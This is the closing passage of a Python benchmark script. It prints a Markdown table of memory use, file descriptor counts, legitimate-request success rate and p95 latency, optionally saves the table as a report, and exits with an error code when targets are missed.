                     f"| {' / '.join(map(str, r['rss_mb']))} | {' / '.join(map(str, r['fds']))} "
                     f"| {r['legit_ok']} ({r['legit_rate']:.0%}) | {r['legit_p95_ms']} ms "
                     f"| {r['idle_after_s']} s |")
    table = "\n".join(lines)
    print(table)
    if args.report:
        with open(args.report, "w") as f:
            f.write(table + "\n")
    for warning in warnings:
        print("REPORTED, NOT FAILED: " + warning, file=sys.stderr)
    for failure in failures:
        print("TARGET MISSED: " + failure, file=sys.stderr)
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
